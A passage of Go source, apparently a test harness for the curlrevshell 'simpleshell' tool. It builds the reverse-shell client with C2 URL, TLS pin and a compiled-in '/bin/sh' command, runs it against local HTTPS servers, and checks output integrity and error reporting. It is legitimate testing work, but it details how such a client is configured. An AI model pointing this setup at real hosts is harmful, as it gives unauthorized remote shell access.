// Engine "cli": the COMMAND-LINE TOOL lib/simpleshell/cmd/simpleshell - what
// actually runs on a target - is built and run as a child process against the
// harness's HTTPS servers, with the same generated child programs and the same
// oracle as engine e2e: what the server read up to the end of the request body,
// split by alphabet, must be what the wrapped command reports having written,
// the body must end cleanly, and an unsuccessful end of the wrapped command
// must be reported by the tool.
//
// What "reported" means for the tool: its README documents no exit status and
// no message; its source logs "Error: <err>" through package log (standard
// error) when simpleshell.GoSimple returns an error and then returns from main
// (exit status 0).  The oracle therefore accepts ANY report the tool can make
// on its own: a non-zero exit status, a death by signal, or anything at all on
// its standard error or standard output (the wrapped command's own descriptors
// go to the server, never to the tool's).  Nothing on either and exit status 0
// after a wrapped command that ended unsuccessfully is a violation.
//
// The configuration matrix: the three settings (C2 URL, TLS fingerprint,
// command) each come from every documented source - command-line flag /
// command-line arguments, SIMPLESHELL_C2 / SIMPLESHELL_FP / SIMPLESHELL_ARGS,
// compile-time -ldflags -X main.C2 / main.Fingerprint / main.Args - and the
// fingerprint may also be absent (normal TLS validation, the harness's
// certificate given as SSL_CERT_FILE); flags are spelled -f v, -f=v, --f v,
// --f=v; the command may follow a "--"; SIMPLESHELL_ARGS uses different
// separators.  Source combination, protocol, way of ending and the server's lag
// go by case index.

import (
	"bytes"
	"crypto/tls"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
	"unsafe"

	"github.com/magisterquis/curlrevshell/lib/simpleshell"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
)

const (
	cliEngine  = "cli"
	cliWorkers = 8
	cliPkg     = "github.com/magisterquis/curlrevshell/lib/simpleshell/cmd/simpleshell"
)

// cliConfig: where the tool gets each setting from.
type cliConfig struct{ C2, FP, Args string }

// cliConfigs: a hand-made dozen first (every source of every setting, the
// all-environment, all-compile-time and mixed empty command lines), then the
// full product 3 x 4 x 3.
var cliConfigs = func() []cliConfig {
	l := []cliConfig{
		{"flag", "flag", "cmd"},
		{"env", "env", "env"},
		{"flag", "env", "cmd"},
		{"ldx", "ldx", "ldx"},
		{"env", "flag", "env"},
		{"flag", "none", "cmd"},
		{"env", "env", "cmd"},
		{"ldx", "env", "env"},
		{"flag", "flag", "env"},
		{"env", "none", "env"},
		{"env", "ldx", "cmd"},
		{"flag", "ldx", "ldx"},
	}
	for _, f := range []string{"flag", "env", "ldx", "none"} {
		for _, c := range []string{"flag", "env", "ldx"} {
			for _, a := range []string{"cmd", "env", "ldx"} {
				l = append(l, cliConfig{c, f, a})
			}
		}
	}
	return l
}()

// cliEnds: how the wrapped command ends, by case index (two of three
// unsuccessfully): the base kind has period 6, so that within the first dozen
// configurations both protocols and every empty command line meet a non-zero
// exit and a signal, and every 48 cases (one round of the configurations) the
// kinds rotate, so that every configuration meets all three.
var cliEnds = []string{"nonzero", "signal", "exit0"}
var cliEndBase = []int{0, 0, 2, 1, 1, 2}

// cliLagsMs: how far the server lags behind the command's end, by case index.
var cliLagsMs = []int{1500, 300, 3000, 1200, 6000, 2200, 600, 4000}

var cliSpellings = []string{"-f v", "-f=v", "--f v", "--f=v"}

type cliSpec struct {
	C         *spec
	Proto     string
	Conf      cliConfig
	Spelling  int
	DashDash  bool
	Sep       string
	PinPrefix bool
	RcvBuf    int

	PreN      int
	PreChunks []int
	pre       []byte

	Reader      string // lag-stall | slow-tail | keep-up
	FastBytes   int
	SlowChunk   int
	SlowDelayUs int
	LagMs       int // lag-stall: nothing is read for this long after the command's exit; slow-tail: the rest is spread over this long
	DrainChunks []int
	EndDelayMs  int
}

func (e *cliSpec) usesLdx() bool {
	return e.Conf.C2 == "ldx" || e.Conf.FP == "ldx" || e.Conf.Args == "ldx"
}

// emptyCommandLine: the tool is started with no argument at all.
func (e *cliSpec) emptyCommandLine() bool {
	return e.Conf.C2 != "flag" && e.Conf.FP != "flag" && e.Conf.Args != "cmd"
}

var cliBigSet = []int{0, 65537, 1 << 20, 2<<20 + 1, 3 << 20, 4 << 20, 5 << 20}

func genCLI(r *mon.Run, i int) *cliSpec {
	rng := r.Rng(cliEngine, i)
	c := &spec{Index: i, Mode: "pattern", Flavor: "perl"}
	e := &cliSpec{C: c}
	e.Proto = []string{"h1", "h2"}[i%2]
	e.Conf = cliConfigs[i%len(cliConfigs)]
	switch cliEnds[(cliEndBase[i%len(cliEndBase)]+i/len(cliConfigs))%len(cliEnds)] {
	case "nonzero":
		c.Exit = []int{1, 3, 255}[rng.IntN(3)]
	case "signal":
		c.Sig = sigSet[(i/3)%len(sigSet)]
	}
	e.Spelling = (i / 2) % len(cliSpellings)
	e.DashDash = (i/3)%2 == 1
	e.PinPrefix = (i/4)%2 == 1
	e.RcvBuf = []int{65536, 0, 65536, 262144}[rng.IntN(4)]

	// three of four cases are bursts that cannot sit in pipes and socket buffers
	burst := i%8 != 3 && i%8 != 6
	if burst {
		for {
			c.NOut, c.NErr = pick(rng, cliBigSet), pick(rng, cliBigSet)
			if t := c.NOut + c.NErr; t >= 4<<20 && t <= 7<<20 {
				break
			}
		}
	} else {
		c.NOut, c.NErr = pick(rng, sizeSet), pick(rng, sizeSet)
	}
	total := c.NOut + c.NErr
	so, do := writeSizes(rng, c.NOut)
	se, de := writeSizes(rng, c.NErr)
	c.WOut, c.WErr = do, de
	c.Interleave = []string{"out-first", "err-first", "random", "alternate"}[rng.IntN(4)]
	ops := mergeOps(rng, c.Interleave, so, se)
	c.Stdin.Kind = "response-body"
	if rng.IntN(3) == 0 {
		e.PreN = []int{1, 100, 5000}[rng.IntN(3)]
		e.pre = make([]byte, e.PreN)
		fillRand(rng, e.pre)
		for k := 1 + rng.IntN(2); k > 0; k-- {
			e.PreChunks = append(e.PreChunks, []int{100, 4096, 32768}[rng.IntN(3)])
		}
		ops = append([]op{{K: "I", N: e.PreN}}, ops...)
		c.Stdin.N = e.PreN
	}
	switch v := rng.IntN(20); {
	case v < 9:
		c.ExitMode = "immediate"
		ops = append([]op{{K: "P"}}, ops...)
	case v < 16:
		c.ExitMode = "linger"
		c.LingerMs = 1 + rng.IntN(50)
		ops = append(ops, op{K: "R"}, op{K: "S", N: c.LingerMs * 1000})
	default:
		c.ExitMode = "after-report"
		ops = append(ops, op{K: "R"})
	}
	c.Ops = ops

	// lag, reader and protocol by index: every lag meets both protocols within
	// 16 cases, three of four readers stall
	e.LagMs = cliLagsMs[(i/2+(i%2)*3+i/16)%len(cliLagsMs)]
	e.Reader = []string{"lag-stall", "lag-stall", "slow-tail", "lag-stall"}[(i/2)%4]
	e.FastBytes = []int{0, 65536, total / 8}[rng.IntN(3)]
	e.SlowChunk = []int{16384, 32768, 65536}[rng.IntN(3)]
	e.SlowDelayUs = []int{500, 1000, 2000}[rng.IntN(3)]
	if e.Reader == "lag-stall" {
		// no receive buffer that grows
		e.SlowChunk = []int{4096, 8192, 8192}[rng.IntN(3)]
		if e.RcvBuf == 0 {
			e.RcvBuf = 65536
		}
	}
	if slow := total / e.SlowChunk * e.SlowDelayUs; slow > 800_000 {
		e.SlowDelayUs = 800_000 / (total/e.SlowChunk + 1)
	}
	if rng.IntN(3) == 0 {
		e.DrainChunks = []int{65536}
	} else {
		for k := 1 + rng.IntN(4); k > 0; k-- {
			e.DrainChunks = append(e.DrainChunks, []int{4096, 4097, 16384, 32768, 65536}[rng.IntN(5)])
		}
	}
	e.EndDelayMs = rng.IntN(10)
	e.Sep = []string{" ", ",", "|", ":", "\n", "\t"}[(i/2)%6]
	return e
}

func (e *cliSpec) sig() string {
	c := e.C
	return fmt.Sprintf("cli|%s|%+v|%d|%v|%q|%v|%d|%d|%d|%s|%s|%s|%d%s|%s|%d|%d|%v|%s|%d|%d|%d|%d|%v",
		e.Proto, e.Conf, e.Spelling, e.DashDash, e.Sep, e.PinPrefix, e.RcvBuf, c.NOut, c.NErr, c.WOut, c.WErr, c.Interleave, c.Exit, c.Sig, c.ExitMode, c.LingerMs,
		e.PreN, e.PreChunks, e.Reader, e.FastBytes, e.SlowChunk, e.SlowDelayUs, e.LagMs, e.DrainChunks)
}

func (e *cliSpec) desc() string {
	c := e.C
	cl := ""
	if e.emptyCommandLine() {
		cl = ", empty command line"
	}
	return fmt.Sprintf("cli case %d (%s; C2 from %s, fingerprint from %s, command from %s%s; %d/%d bytes, %s %s; server reader %s, %d ms behind the command's end)",
		c.Index, e.Proto, e.Conf.C2, e.Conf.FP, e.Conf.Args, cl, c.NOut, c.NErr, c.exitDesc(), c.ExitMode, e.Reader, e.LagMs)
}

// ---- servers and builds --------------------------------------------------------

// cliServer is one HTTPS listener whose handler is set per case.  A server of
// its own is made for every case whose C2 URL the harness can choose at run
// time; the cases that use a binary with a compiled-in URL share one server per
// protocol and take turns (lane).
type cliServer struct {
	ln   net.Listener
	srv  *http.Server
	done chan struct{}
	h    atomic.Pointer[http.HandlerFunc]
	rcv  atomic.Int64
	lane sync.Mutex
}

type cliListener struct {
	net.Listener
	s *cliServer
}

func (l cliListener) Accept() (net.Conn, error) {
	c, err := l.Listener.Accept()
	if err == nil {
		if rcv := int(l.s.rcv.Load()); rcv > 0 {
			if t, ok := c.(*net.TCPConn); ok {
				t.SetReadBuffer(rcv)
			}
		}
	}
	return c, err
}

func startCLIServer(tl *e2eTLS, proto string) (*cliServer, error) {
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	s := &cliServer{ln: ln, done: make(chan struct{})}
	mux := http.NewServeMux()
	mux.HandleFunc(simpleshell.IOPath, func(w http.ResponseWriter, r *http.Request) {
		if h := s.h.Load(); h != nil {
			(*h)(w, r)
			return
		}
		http.Error(w, "no case", http.StatusServiceUnavailable)
	})
	s.srv = &http.Server{
		Handler:   mux,
		TLSConfig: &tls.Config{Certificates: []tls.Certificate{tl.cert}, MinVersion: tls.VersionTLS12},
		ErrorLog:  log.New(io.Discard, "", 0),
	}
	if proto == "h1" {
		s.srv.TLSNextProto = map[string]func(*http.Server, *tls.Conn, http.Handler){}
	}
	go func() {
		defer close(s.done)
		s.srv.ServeTLS(cliListener{ln, s}, "", "")
	}()
	return s, nil
}

func (s *cliServer) url() string { return "https://" + s.ln.Addr().String() + simpleshell.IOPath }

func (s *cliServer) close() {
	s.srv.Close()
	<-s.done
}

// cliWorld: what the cases of one run share.
type cliWorld struct {
	tl       *e2eTLS
	dir      string
	certFile string
	runSh    string // what a compiled-in command runs: exec perl "$C14_CHILD"
	plain    string // the tool as `go build` makes it

	mu     sync.Mutex
	fixed  map[string]*cliServer // by protocol
	ldx    map[string]string     // proto + "/" + fp|nofp -> binary
	builds int
}

func cliBuild(out string, x map[string]string) error {
	args := []string{"build", "-race", "-tags", "verif", "-o", out}
	if len(x) > 0 {
		keys := make([]string, 0, len(x))
		for k := range x {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		var ld []string
		for _, k := range keys {
			ld = append(ld, fmt.Sprintf("-X 'main.%s=%s'", k, x[k]))
		}
		args = append(args, "-ldflags", strings.Join(ld, " "))
	}
	args = append(args, cliPkg)
	cmd := exec.Command("go", args...)
	cmd.Dir = filepath.Join(mon.VerifDir, "harness")
	cmd.Env = append(os.Environ(), "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local")
	if b, err := cmd.CombinedOutput(); err != nil {
		return fmt.Errorf("go %s: %v\n%s", strings.Join(args, " "), err, b)
	}
	return nil
}

func newCLIWorld(r *mon.Run, tl *e2eTLS) (*cliWorld, error) {
	w := &cliWorld{tl: tl, dir: filepath.Join(r.Work, "cli"), fixed: map[string]*cliServer{}, ldx: map[string]string{}}
	if err := os.MkdirAll(w.dir, 0o755); err != nil {
		return nil, err
	}
	w.certFile = filepath.Join(w.dir, "server.pem")
	if err := os.WriteFile(w.certFile, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: tl.cert.Certificate[0]}), 0o644); err != nil {
		return nil, err
	}
	w.runSh = filepath.Join(w.dir, "run.sh")
	if err := os.WriteFile(w.runSh, []byte("exec /usr/bin/perl \"$C14_CHILD\"\n"), 0o644); err != nil {
		return nil, err
	}
	w.plain = filepath.Join(w.dir, "simpleshell")
	if err := cliBuild(w.plain, nil); err != nil {
		return nil, err
	}
	w.builds++
	return w, nil
}

// ldxFor returns the shared server of the protocol and the binary that has its
// URL, the command and (withFP) the fingerprint compiled in; both are made on
// first use.
func (w *cliWorld) ldxFor(proto string, withFP bool) (*cliServer, string, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	s := w.fixed[proto]
	if s == nil {
		var err error
		if s, err = startCLIServer(w.tl, proto); err != nil {
			return nil, "", err
		}
		w.fixed[proto] = s
	}
	key := proto + "-nofp"
	if withFP {
		key = proto + "-fp"
	}
	if bin := w.ldx[key]; bin != "" {
		return s, bin, nil
	}
	x := map[string]string{"C2": s.url(), "Args": ",/bin/sh," + w.runSh}
	if withFP {
		x["Fingerprint"] = w.tl.pin
	}
	bin := filepath.Join(w.dir, "simpleshell-"+key)
	if err := cliBuild(bin, x); err != nil {
		return nil, "", err
	}
	w.builds++
	w.ldx[key] = bin
	return s, bin, nil
}

func (w *cliWorld) close() {
	w.mu.Lock()
	defer w.mu.Unlock()
	for _, s := range w.fixed {
		s.close()
	}
}

// ---- one case ---------------------------------------------------------------------

type cliResult struct {
	mu sync.Mutex

	handlerCalled bool
	extraCalls    int
	proto         string
	got           []byte
	bodyErr       error
	bodyEnded     bool
	bytesFast     int
	bytesSlow     int
	bytesDrain    int
	exitSeen      bool
	exitAt        time.Time
	readAtExit    int64
	jit           [3]int // lag-stall: chunks read because the command slept in a pipe write / slept with a full pipe / for liveness
	pipedAtExit   int64  // bytes in the pipes between the command and the tool (written, not yet read by the tool) when the command was seen to have exited; -1 unknown
	bodyEndAt     time.Time
	preSent       int
	preWriteErr   error

	serverRead atomic.Int64

	argv             []string
	envAdded         []string
	toolStarted      bool
	toolExited       bool
	toolExitAt       time.Time
	toolExit         int
	toolSignaled     bool
	toolState        string
	toolStderr       []byte
	toolStdout       []byte
	unreadAtToolExit int64
	timedOut         bool
	toolHung         bool
	killed           bool
	rep              *report
	seen             []byte
	setupErr         string
	wall             time.Duration
}

// pipePending: how many bytes the wrapped command wrote that the tool has not
// even read yet - the content of every pipe whose read end the tool holds
// (descriptors above 2), seen through /proc/<pid>/fd with FIONREAD.  -1 when
// it cannot be told.
func pipePending(pid int) (sum, most int64) {
	base := fmt.Sprintf("/proc/%d/fd", pid)
	ents, err := os.ReadDir(base)
	if err != nil {
		return -1, -1
	}
	found := 0
	for _, en := range ents {
		n, err := strconv.Atoi(en.Name())
		if err != nil || n <= 2 {
			continue
		}
		if l, err := os.Readlink(filepath.Join(base, en.Name())); err != nil || !strings.HasPrefix(l, "pipe:") {
			continue
		}
		info, err := os.ReadFile(fmt.Sprintf("/proc/%d/fdinfo/%d", pid, n))
		if err != nil {
			continue
		}
		readEnd := false
		for _, line := range strings.Split(string(info), "\n") {
			if f := strings.Fields(line); len(f) == 2 && f[0] == "flags:" {
				fl, _ := strconv.ParseInt(f[1], 8, 64)
				readEnd = fl&3 == int64(os.O_RDONLY)
			}
		}
		if !readEnd {
			continue
		}
		fd, err := syscall.Open(filepath.Join(base, en.Name()), syscall.O_RDONLY|syscall.O_NONBLOCK|syscall.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		var k int32
		_, _, errno := syscall.Syscall(syscall.SYS_IOCTL, uintptr(fd), uintptr(0x541B) /* FIONREAD */, uintptr(unsafe.Pointer(&k)))
		syscall.Close(fd)
		if errno != 0 {
			continue
		}
		sum += int64(k)
		most = max(most, int64(k))
		found++
	}
	if found == 0 {
		return -1, -1
	}
	return sum, most
}

// blockedInPipeWrite: is the process asleep in a write to a pipe?
func blockedInPipeWrite(pid int) bool {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/wchan", pid))
	return err == nil && strings.Contains(string(b), "pipe_w")
}

func runCLI(e *cliSpec, w *cliWorld, dir string, bound time.Duration) (res *cliResult) {
	res = &cliResult{pipedAtExit: -1, unreadAtToolExit: -1}
	c := e.C
	t0 := time.Now()
	defer func() { res.wall = time.Since(t0) }()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		res.setupErr = err.Error()
		return
	}
	_, text := c.script(dir)
	child := filepath.Join(dir, "child")
	if err := os.WriteFile(child, []byte(text), 0o644); err != nil {
		res.setupErr = err.Error()
		return
	}

	// ---- server and binary ----
	var srv *cliServer
	bin := w.plain
	if e.usesLdx() {
		var err error
		if srv, bin, err = w.ldxFor(e.Proto, e.Conf.FP == "ldx"); err != nil {
			res.setupErr = "compile-time configuration: " + err.Error()
			return
		}
		srv.lane.Lock()
		defer srv.lane.Unlock()
		t0 = time.Now()
	} else {
		var err error
		if srv, err = startCLIServer(w.tl, e.Proto); err != nil {
			res.setupErr = "listen: " + err.Error()
			return
		}
		defer srv.close()
	}
	srv.rcv.Store(int64(e.RcvBuf))

	stop := make(chan struct{})
	var stopOnce sync.Once
	closeStop := func() { stopOnce.Do(func() { close(stop) }) }
	defer closeStop()
	handlerDone := make(chan struct{})
	var calls atomic.Int32
	total := int64(c.NOut + c.NErr)
	var toolPid atomic.Int64

	handler := http.HandlerFunc(func(hw http.ResponseWriter, r *http.Request) {
		if calls.Add(1) != 1 {
			res.mu.Lock()
			res.extraCalls++
			res.mu.Unlock()
			http.Error(hw, "one shell only", http.StatusServiceUnavailable)
			return
		}
		defer close(handlerDone)
		rc := http.NewResponseController(hw)
		rc.EnableFullDuplex()
		hw.WriteHeader(http.StatusOK)
		flErr := rc.Flush()
		res.mu.Lock()
		res.handlerCalled, res.proto, res.preWriteErr = true, r.Proto, flErr
		res.mu.Unlock()

		exitSeen := make(chan struct{})
		inputDone := make(chan struct{})
		go func() {
			defer close(inputDone)
			for off, k := 0, 0; off < len(e.pre); k++ {
				n := min(e.PreChunks[k%len(e.PreChunks)], len(e.pre)-off)
				rc.SetWriteDeadline(time.Now().Add(20 * time.Second))
				_, err := hw.Write(e.pre[off : off+n])
				if err == nil {
					err = rc.Flush()
				}
				if err != nil {
					res.mu.Lock()
					res.preWriteErr = err
					res.mu.Unlock()
					break
				}
				off += n
				res.mu.Lock()
				res.preSent = off
				res.mu.Unlock()
			}
			for childState(dir) != 2 {
				if !nap(time.Millisecond, stop) {
					return
				}
			}
			q, _ := pipePending(int(toolPid.Load()))
			res.mu.Lock()
			res.exitSeen, res.exitAt, res.readAtExit, res.pipedAtExit = true, time.Now(), res.serverRead.Load(), q
			res.mu.Unlock()
			close(exitSeen)
			// Not part of the check (see Assumptions): input that arrives after
			// the command has exited.  Kept as a switch to reproduce what was
			// reported about it: C14_CLI_LATE=1 bin/vcheck C14 quick
			if os.Getenv("C14_CLI_LATE") != "" {
				for l := 0; l < 3; l++ {
					nap(10*time.Millisecond, stop)
					hw.Write([]byte("late\n"))
					rc.Flush()
				}
			}
		}()

		buf := make([]byte, 65536)
		ended := false
		read := func(n int, phase *int) bool {
			k, err := r.Body.Read(buf[:n])
			res.mu.Lock()
			res.got = append(res.got, buf[:k]...)
			*phase += k
			if err != nil {
				res.bodyErr, res.bodyEndAt = err, time.Now()
				select {
				case <-stop:
				default:
					res.bodyEnded = true
				}
				ended = true
			}
			res.mu.Unlock()
			res.serverRead.Add(int64(k))
			return err == nil
		}
		exited := func() bool {
			select {
			case <-exitSeen:
				return true
			default:
				return false
			}
		}
		var nFast, nSlow, nDrain int
		switch e.Reader {
		case "lag-stall":
			// keeps up until what is left to read is no more than what the
			// pipeline may hold (HTTP/2: the 1 MiB window and the tool's
			// buffers; HTTP/1.1: the kernel's socket buffers too)
			fast := e.FastBytes
			if tail := map[bool]int{true: 3 << 19, false: 4 << 20}[e.Proto == "h2"]; int(total)-fast > tail {
				fast = int(total) - tail
			}
			for nFast < fast && !ended {
				read(min(65536, fast-nFast), &nFast)
			}
			// Just in time: the server reads a chunk only when the command
			// cannot go on - it sleeps in a write to a pipe, or it sleeps and
			// one of the pipes to the tool is (all but) full - so that whatever
			// the speed of either side the command exits with the whole
			// pipeline behind it full and its last output still in the pipes
			// to the tool.  (A chunk is also read after 500 ms without one, for
			// liveness, and after 5 s the server reads on without looking.)
			last := time.Now()
			start := last
			var why [3]int
			for !ended && !exited() {
				k := -1
				pid := readPid(dir)
				if blockedInPipeWrite(pid) {
					k = 0
				} else if _, most := pipePending(int(toolPid.Load())); most >= 56<<10 && procStat(pid).state == 'S' {
					k = 1
				} else if time.Since(last) > 500*time.Millisecond || time.Since(start) > 5*time.Second {
					k = 2 // also: after 5 s of this the server simply reads on
				}
				if k >= 0 {
					why[k]++
					if !read(e.SlowChunk, &nSlow) {
						break
					}
					last = time.Now()
					// give what was read time to get through to the command
					// (3 ms at most) before looking again
					for w := 0; k == 0 && time.Since(start) <= 5*time.Second && w < 15 && blockedInPipeWrite(pid) && nap(200*time.Microsecond, stop); w++ {
					}
					continue
				}
				if !nap(200*time.Microsecond, stop) {
					break
				}
			}
			res.mu.Lock()
			res.jit = why
			res.mu.Unlock()
			if !ended {
				// The command is gone; what it wrote and the server has not
				// read is in flight or still inside the tool.
				nap(time.Duration(e.LagMs)*time.Millisecond, stop)
			}
		case "slow-tail":
			// keeps up until the command has exited, then spreads the rest
			// over the lag
			for !ended && !exited() {
				if !read(65536, &nFast) {
					break
				}
				if !nap(time.Duration(e.SlowDelayUs)*time.Microsecond, stop) {
					break
				}
			}
			if !ended {
				rest := total - res.serverRead.Load()
				steps := max(rest/int64(e.SlowChunk), 1)
				pause := time.Duration(e.LagMs) * time.Millisecond / time.Duration(steps)
				for k := int64(0); k < steps && !ended; k++ {
					if !read(e.SlowChunk, &nSlow) {
						break
					}
					if !nap(pause, stop) {
						break
					}
				}
			}
		}
		for k := 0; !ended; k++ {
			read(e.DrainChunks[k%len(e.DrainChunks)], &nDrain)
		}
		res.mu.Lock()
		res.bytesFast, res.bytesSlow, res.bytesDrain = nFast, nSlow, nDrain
		res.mu.Unlock()
		select {
		case <-inputDone:
		case <-stop:
		}
		nap(time.Duration(e.EndDelayMs)*time.Millisecond, stop)
	})
	srv.h.Store(&handler)
	defer srv.h.Store(nil)

	// ---- the tool ----
	fp := w.tl.pin
	if e.PinPrefix {
		fp = "sha256//" + fp
	}
	env := []string{"HOME=" + dir, "PATH=/usr/bin:/bin", "LC_ALL=C", "C14_CHILD=" + child}
	if pre := os.Getenv("VERIF_RACELOG"); pre != "" {
		env = append(env, "GORACE=halt_on_error=0 log_path="+pre)
	}
	var argv, added []string
	flagArg := func(name, val string) {
		switch e.Spelling {
		case 0:
			argv = append(argv, "-"+name, val)
		case 1:
			argv = append(argv, "-"+name+"="+val)
		case 2:
			argv = append(argv, "--"+name, val)
		default:
			argv = append(argv, "--"+name+"="+val)
		}
	}
	switch e.Conf.C2 {
	case "flag":
		flagArg("c2", srv.url())
	case "env":
		added = append(added, "SIMPLESHELL_C2="+srv.url())
	}
	switch e.Conf.FP {
	case "flag":
		flagArg("fingerprint", fp)
	case "env":
		added = append(added, "SIMPLESHELL_FP="+fp)
	case "none":
		added = append(added, "SSL_CERT_FILE="+w.certFile)
	}
	command := []string{"/usr/bin/perl", child}
	switch e.Conf.Args {
	case "cmd":
		if e.DashDash {
			argv = append(argv, "--")
		}
		argv = append(argv, command...)
	case "env":
		sep := e.Sep
		for _, s := range []string{sep, ",", "|", "\n"} {
			if !strings.Contains(strings.Join(command, ""), s) {
				sep = s
				break
			}
		}
		added = append(added, "SIMPLESHELL_ARGS="+sep+strings.Join(command, sep))
	}
	res.argv, res.envAdded = argv, added
	cmd := exec.Command(bin, argv...)
	cmd.Env = append(env, added...)
	cmd.Dir = dir
	var so, se bytes.Buffer
	cmd.Stdout, cmd.Stderr = &so, &se
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := cmd.Start(); err != nil {
		res.setupErr = "starting the tool: " + err.Error()
		return
	}
	res.toolStarted = true
	toolPid.Store(int64(cmd.Process.Pid))
	toolDone := make(chan error, 1)
	var unread atomic.Int64
	unread.Store(-1)
	var exitAt atomic.Int64
	go func() {
		err := cmd.Wait()
		exitAt.Store(time.Now().UnixNano())
		unread.Store(total - res.serverRead.Load())
		toolDone <- err
	}()
	killGroup := func() {
		syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
	}

	timer := time.NewTimer(bound)
	defer timer.Stop()
	hd := false
	for !hd && !res.timedOut {
		select {
		case <-handlerDone:
			hd = true
		case <-toolDone:
			res.toolExited = true
			toolDone = nil
			if calls.Load() == 0 { // never connected
				select {
				case <-handlerDone:
					hd = true
				case <-time.After(2 * time.Second):
					res.setupErr = fmt.Sprintf("the tool exited (%s; stderr %q) and no request had reached the server", cmd.ProcessState, short(se.Bytes()))
					killGroup()
					return
				}
			}
		case <-timer.C:
			res.timedOut = true
		}
	}
	if hd && !res.toolExited {
		select {
		case <-toolDone:
			res.toolExited = true
		case <-timer.C:
			res.toolHung = true
		}
	}
	if res.timedOut || res.toolHung {
		if pid := readPid(dir); pid != 0 {
			if pi := procStat(pid); pi.state != 0 && pi.state != 'Z' {
				res.killed = true
				before := readReport(dir)
				syscall.Kill(pid, syscall.SIGTERM)
				for k := 0; k < 500; k++ {
					if st := procStat(pid); st.state == 0 || st.state == 'Z' {
						break
					}
					if rp := readReport(dir); rp != nil && rp.Kind == "partial" && (before == nil || *before != *rp) {
						break
					}
					time.Sleep(time.Millisecond)
				}
			}
		}
		closeStop()
		killGroup()
		if !res.toolExited {
			select {
			case <-toolDone:
			case <-time.After(5 * time.Second):
			}
		}
		if !hd {
			// the connection of a killed tool is gone, so the handler's read fails
			select {
			case <-handlerDone:
			case <-time.After(5 * time.Second):
			}
		}
	}
	if res.toolExited && cmd.ProcessState != nil {
		res.toolExit = cmd.ProcessState.ExitCode()
		res.toolState = cmd.ProcessState.String()
		if ws, ok := cmd.ProcessState.Sys().(syscall.WaitStatus); ok && ws.Signaled() {
			res.toolSignaled = true
		}
		res.toolExitAt = time.Unix(0, exitAt.Load())
		res.toolStderr = append([]byte(nil), se.Bytes()...)
		res.toolStdout = append([]byte(nil), so.Bytes()...)
	}
	res.unreadAtToolExit = unread.Load()
	res.rep = readReport(dir)
	res.seen, _ = os.ReadFile(filepath.Join(dir, "stdin.seen"))
	killGroup() // whatever is left of the tool's process group
	if pid := readPid(dir); pid != 0 {
		if pi := procStat(pid); pi.state != 0 && pi.state != 'Z' {
			syscall.Kill(pid, syscall.SIGKILL)
		}
	}
	return
}

// ---- oracle ---------------------------------------------------------------------

// reported: did the tool report anything at all - exit status, death, or any
// text on its own descriptors?
func (res *cliResult) reported() (bool, string) {
	var how []string
	if res.toolSignaled {
		how = append(how, "killed by a signal")
	} else if res.toolExit != 0 {
		how = append(how, "exit status")
	}
	if len(bytes.TrimSpace(res.toolStderr)) > 0 {
		how = append(how, "stderr")
	}
	if len(bytes.TrimSpace(res.toolStdout)) > 0 {
		how = append(how, "stdout")
	}
	return len(how) > 0, strings.Join(how, "+")
}

func judgeCLI(e *cliSpec, res *cliResult) (v verdict) {
	c := e.C
	add := func(key, f string, a ...any) {
		v.viol = append(v.viol, finding{key + ":cli", fmt.Sprintf(f, a...)})
	}
	if res.setupErr != "" {
		v.inconcl = append(v.inconcl, fmt.Sprintf("cli case %d: setup failed: %s", c.Index, res.setupErr))
		return
	}
	res.mu.Lock()
	defer res.mu.Unlock()
	if !res.handlerCalled {
		v.inconcl = append(v.inconcl, fmt.Sprintf("cli case %d: no request reached the server (tool: %s, stderr %q)", c.Index, res.toolState, short(res.toolStderr)))
		return
	}
	var wroteOut, wroteErr int
	known, lower := false, false
	if rp := res.rep; rp != nil {
		wroteOut, wroteErr = rp.Out, rp.Err
		switch rp.Kind {
		case "done":
			known = true
		case "partial":
			lower = true
		case "pre": // a write that failed or a SIGTERM would have replaced it
			known = res.exitSeen && !res.killed
		}
	}
	outB, errB, junk := splitAlphabets(res.got)
	v.gotOut, v.gotErr = len(outB), len(errB)
	if junk >= 0 {
		add("output-corrupt", "byte %#02x at offset %d of the request body belongs to neither descriptor's alphabet (context %q)", res.got[junk], junk, res.got[max(0, junk-8):min(len(res.got), junk+24)])
	}
	if i := firstBad(outB, 'a'); i >= 0 {
		add("output-corrupt", "stdout bytes in the request body are not the sequence the command wrote: first wrong byte at stdout offset %d (got %q, want %q) of %d received", i, outB[i], 'a'+byte(pos(i)), len(outB))
	}
	if i := firstBad(errB, 'A'); i >= 0 {
		add("output-corrupt", "stderr bytes in the request body are not the sequence the command wrote: first wrong byte at stderr offset %d (got %q, want %q) of %d received", i, errB[i], 'A'+byte(pos(i)), len(errB))
	}
	if len(outB) > c.NOut || len(errB) > c.NErr {
		add("output-corrupt", "more bytes in the request body than the command can have written: stdout %d of %d, stderr %d of %d", len(outB), c.NOut, len(errB), c.NErr)
	}
	if p := commonPrefix(res.seen, e.pre); p < len(res.seen) {
		if p < len(e.pre) {
			add("stdin-corrupt", "the command's stdin differs from the response body at offset %d (saw %#02x, sent %#02x; %d seen, %d sent)", p, res.seen[p], e.pre[p], len(res.seen), len(e.pre))
		} else {
			add("stdin-corrupt", "the command saw %d bytes on stdin, only %d were sent", len(res.seen), len(e.pre))
		}
	}
	if res.timedOut {
		v.timeout = true
		return
	}
	if !res.bodyEnded {
		v.inconcl = append(v.inconcl, fmt.Sprintf("cli case %d: the server's reading was ended by the harness", c.Index))
		return
	}
	how := fmt.Sprintf("the server had read %d bytes when the command was seen to have exited", res.readAtExit)
	if res.toolExited {
		how += fmt.Sprintf("; the tool ended (%s) with %d bytes yet to be read by the server", res.toolState, max(res.unreadAtToolExit, 0))
		if res.exitSeen {
